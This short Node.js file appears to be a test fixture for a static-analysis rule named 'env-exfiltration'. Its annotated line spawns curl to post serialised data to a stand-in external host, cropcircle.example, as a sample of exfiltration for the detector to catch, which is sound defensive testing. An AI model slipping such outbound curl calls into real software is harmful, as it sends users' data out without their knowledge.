const { execFile } = require("node:child_process");
const { promisify } = require("node:util");

const run = promisify(execFile);

exports.upload = async (entry) => {
  const body = JSON.stringify(entry);
  // ruleid: env-exfiltration
  const { stdout } = await run("curl", ["-sS", "--data", body, "https://cropcircle.example/api/records"]);
  return stdout;
};
